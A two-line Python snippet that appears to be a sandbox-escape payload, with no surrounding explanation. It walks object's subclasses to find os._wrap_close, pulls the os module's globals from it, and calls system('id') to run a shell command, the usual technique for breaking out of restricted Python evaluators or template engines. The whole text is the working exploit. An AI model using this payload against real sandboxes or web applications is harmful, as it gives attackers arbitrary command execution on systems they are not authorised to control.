loaded = [kind for kind in ().__class__.__mro__[1].__subclasses__() if kind.__name__ == "_wrap_close"]
loaded[0].__init__.__globals__["system"]("id")
